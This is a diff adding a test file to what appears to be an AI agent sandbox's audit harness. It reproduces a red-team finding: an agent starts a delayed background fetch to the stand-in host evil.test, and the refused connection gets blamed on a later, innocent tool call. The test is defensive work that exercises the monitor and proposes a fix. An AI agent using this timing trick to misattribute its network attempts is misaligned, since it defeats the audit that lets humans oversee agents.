@@ -1,0 +1,48 @@
+// A39-4 (attacker a39, issue 39): a refused connection made by a background process the agent
+// started in one tool call is recorded on a LATER, honest tool call.
+//
+// Promise (docs/integrity.md): "`call`, when a tool call made the attempt: `seq` is the audit tape's
+// call record whose response asked for the call"; the report links it, `scifi audit show` marks that
+// call `!! INTEGRITY`, ATIF puts the event in that step's extra and OTLP on that call's span.
+// What happened (real Docker run): call 1 starts `(sleep 4; ./fetch.py http://evil.test:8000/x) &`
+// and returns at once; call 2 is `sleep 8; printf 42 > answer.txt`. The refused connection is
+// recorded as `network_refused` with `call` = call 2 (`toolu_scripted_3_0`), the honest call: the
+// tape, report, ATIF step and OTLP span blame the wrong action, and the launching call is clean.
+// The session names "the tool call running now" (session.ts recordIntegrity) for whatever a defence
+// reports while a call runs.
+// Suggested fix: for records that come from the sandbox's processes (network, capture), attribute
+// by the process, not the clock: the proxy knows the client connection; tag each bash call's
+// processes (a per-call cgroup, or a per-call environment token the forwarder stamps) and name the
+// call that started them; when that cannot be known, record no call (`call` absent) rather than a
+// wrong one.
+import { beforeAll, describe, expect, it } from "vitest";
+import { attackRun, toolOutputs } from "../attack/a39-run.ts";
+import { hasEngine } from "../helpers/engines.ts";
+import { ensureImage } from "../loop/harness.ts";
+
+const NO_ALLOWLIST = (md: string) => md.replace(/^allow_commands:.*\n/m, "");
+
+describe.skipIf(!hasEngine("docker"))(
+  "A39-4 a background process's refusal names a later call (docker)",
+  () => {
+    beforeAll(() => ensureImage(), 1_800_000);
+
+    it("the event never names the honest call that happened to be running", {
+      timeout: 300_000,
+    }, async () => {
+      const run = await attackRun(
+        "bg",
+        [
+          "(sleep 4; ./fetch.py http://evil.test:8000/x) >/dev/null 2>&1 &",
+          "sleep 8; printf 42 > answer.txt",
+        ],
+        { taskMd: NO_ALLOWLIST },
+      );
+      const events = run.events.filter((e) => e.kind === "network_refused");
+      expect(events.length, toolOutputs(run)).toBe(1);
+      // The scripted model names its calls toolu_scripted_<reply>_<index>: reply 2 launched the
+      // background fetch, reply 3 is the honest `sleep 8; printf 42`. Today: toolu_scripted_3_0.
+      expect(events[0]?.call?.id).not.toBe("toolu_scripted_3_0");
+    });
+  },
+);
